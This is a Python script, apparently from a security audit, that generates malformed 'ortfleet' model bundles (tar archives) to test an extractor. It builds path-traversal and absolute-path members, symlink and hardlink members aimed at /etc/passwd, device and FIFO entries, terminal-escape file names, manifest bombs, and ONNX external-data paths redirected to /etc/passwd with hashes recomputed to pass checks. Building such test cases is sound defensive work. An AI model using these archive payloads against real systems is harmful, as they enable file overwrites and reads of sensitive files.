import tarfile, io, json, os, sys, copy
sys.path.insert(0, "/tmp/aud/b"); from xxh import xxh64
src = "/tmp/aud/b/x"
base = json.load(open(f"{src}/ortfleet-bundle.json"))
files = {m["name"]: open(f"{src}/{m['name']}", "rb").read() for m in base["members"]}
def member_entry(name, data): return {"bytes": len(data), "name": name, "xxh64": "%016x" % xxh64(data)}
def build(path, members, manifest=None, extra=None, order=None, fix_members=True):
    man = copy.deepcopy(base) if manifest is None else manifest
    if fix_members and manifest is None:
        man["members"] = [member_entry(n, d) for n, d in members.items() if isinstance(d, bytes)]
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
        def add(name, data):
            ti = tarfile.TarInfo(name); ti.size = len(data); ti.mode = 0o644; t.addfile(ti, io.BytesIO(data))
        mj = json.dumps(man).encode() if not isinstance(man, bytes) else man
        add("ortfleet-bundle.json", mj)
        for n, d in members.items():
            if isinstance(d, bytes): add(n, d)
            else: t.addfile(d)
        for ti in (extra or []): t.addfile(ti, io.BytesIO(b"") if ti.isreg() else None)
out = "/tmp/aud/b/evil"; os.makedirs(out, exist_ok=True)
good = dict(files)
# 1 traversal names
for tag, evilname in [("dotdot", "models/../../../../tmp/aud/b/pwned-dotdot"), ("abs", "/tmp/aud/b/pwned-abs"), ("dotdot2", "../pwned-dd2")]:
    m = dict(good); m[evilname] = b"pwned\n"; build(f"{out}/{tag}.bundle", m)
# 2 symlink member then write through it
ti = tarfile.TarInfo("models/link"); ti.type = tarfile.SYMTYPE; ti.linkname = "/tmp/aud/b/target-dir"
m = dict(good); m["models/link"] = ti; m["models/link/pwned"] = b"through link\n"; build(f"{out}/symlink.bundle", m)
# 3 hardlink to /etc/passwd
ti = tarfile.TarInfo("models/hard"); ti.type = tarfile.LNKTYPE; ti.linkname = "/etc/passwd"
m = dict(good); m["models/hard"] = ti; build(f"{out}/hardlink.bundle", m)
# 4 fifo / device member
ti = tarfile.TarInfo("models/fifo"); ti.type = tarfile.FIFOTYPE
m = dict(good); m["models/fifo"] = ti; build(f"{out}/fifo-member.bundle", m)
ti = tarfile.TarInfo("models/dev"); ti.type = tarfile.CHRTYPE; ti.devmajor = 1; ti.devminor = 3
m = dict(good); m["models/dev"] = ti; build(f"{out}/dev-member.bundle", m)
# 5 entry name with escapes + newline
name = list(files)[2]  # the .onnx
evil = "models/ev\x1b]0;PWN\x07\nx.onnx"
m = {k: v for k, v in good.items()}; m[evil] = m.pop(name)
man = copy.deepcopy(base); man["entries"][0]["name"] = evil.split("/")[1]; man["entries"][0]["model"] = "/tmp/\x1b[2Jmodel\n.onnx"
man["members"] = [member_entry(n, d) for n, d in m.items()]
build(f"{out}/escape-names.bundle", m, manifest=man)
# 6 manifest: entries name with traversal, members name traversal
man = copy.deepcopy(base); man["entries"][0]["name"] = "../../../../tmp/aud/b/pwned-entry.onnx"
build(f"{out}/entry-traversal.bundle", good, manifest=man)
# 7 manifest junk
build(f"{out}/manifest-1e999.bundle", good, manifest=b'{"ortfleet_bundle":1e999}')
build(f"{out}/manifest-deep.bundle", good, manifest=("[" * 100000 + "]" * 100000).encode())
build(f"{out}/manifest-notobj.bundle", good, manifest=b'"hello"')
man = copy.deepcopy(base); man["entries"] = [man["entries"][0]] * 10000
build(f"{out}/manifest-10k-entries.bundle", good, manifest=man)
# 8 duplicate members (second different content)
with tarfile.open(f"{out}/duplicate.bundle", "w") as t:
    for n, d in [("ortfleet-bundle.json", json.dumps(base).encode())] + list(good.items()) + [(list(good)[0], b"X" * 10)]:
        ti = tarfile.TarInfo(n); ti.size = len(d); t.addfile(ti, io.BytesIO(d))
# 9 entry manifest pointing at an absolute data file, hashes fixed
em_name = [n for n in good if n.endswith(".manifest.json")][0]
em = json.loads(good[em_name]); em["files"][1]["name"] = "/etc/passwd"; m = dict(good); m[em_name] = json.dumps(em).encode()
build(f"{out}/entry-manifest-abs.bundle", m)
em = json.loads(good[em_name]); em["files"][1]["name"] = "../../../etc/passwd"; m = dict(good); m[em_name] = json.dumps(em).encode()
build(f"{out}/entry-manifest-dotdot.bundle", m)
# 10 the .onnx entry's external data location rewritten to an absolute path (same length trick not needed: hashes recomputed)
onnx_name = [n for n in good if n.endswith(".onnx")][0]
data_name = onnx_name.split("/")[1] + ".data"
g = good[onnx_name]
for tag, loc in [("abs", b"/etc/passwd"), ("dotdot", b"../../../../etc/passwd")]:
    # replace the location string (length-prefixed in protobuf): only if same length is easy; pad with ./
    assert data_name.encode() in g
    target = loc
    if len(target) < len(data_name): target = b"/" * (len(data_name) - len(target)) + target if tag == "abs" else b"./" * ((len(data_name) - len(target)) // 2) + target + b"/"[:0]
    if len(target) != len(data_name): print("skip", tag, len(target), len(data_name)); continue
    m = dict(good); m[onnx_name] = g.replace(data_name.encode(), target); build(f"{out}/extdata-{tag}.bundle", m)
# 11 truncated tar, empty, not tar
data = open("/tmp/aud/b/good.bundle","rb").read()
open(f"{out}/truncated.bundle","wb").write(data[:len(data)//2])
open(f"{out}/empty.bundle","wb").write(b"")
open(f"{out}/text.bundle","wb").write(b"hello\n")
# 12 a huge member size in header (sparse lie)
with tarfile.open(f"{out}/huge-header.bundle", "w") as t:
    d = json.dumps(base).encode(); ti = tarfile.TarInfo("ortfleet-bundle.json"); ti.size = len(d); t.addfile(ti, io.BytesIO(d))
raw = bytearray(open(f"{out}/huge-header.bundle","rb").read())
ti = tarfile.TarInfo("models/big"); ti.size = 1 << 40; hdr = ti.tobuf(format=tarfile.GNU_FORMAT)
raw = raw[:1024] + hdr + b"\0" * 1024  # header claims 1 TB, file ends
open(f"{out}/huge-header.bundle","wb").write(bytes(raw))
print(sorted(os.listdir(out)))
# 13 external data location rewritten, with the entry manifest's hashes made to match
for tag, loc in [("abs", b"/etc/passwd"), ("dotdot", b"../../../../etc/passwd")]:
    target = (b"/" * (len(data_name) - len(loc)) + loc) if tag == "abs" else loc
    if tag == "dotdot":
        pad = len(data_name) - len(loc)
        target = b"./" * (pad // 2) + loc if pad % 2 == 0 else None
    if target is None or len(target) != len(data_name): print("skip", tag); continue
    newonnx = g.replace(data_name.encode(), target)
    em = json.loads(good[em_name])
    for f in em["files"]:
        if f["name"] == onnx_name.split("/")[1]: f["xxh64"] = "%016x" % xxh64(newonnx); f["bytes"] = len(newonnx)
    m = dict(good); m[onnx_name] = newonnx; m[em_name] = json.dumps(em).encode()
    build(f"{out}/extdata2-{tag}.bundle", m)
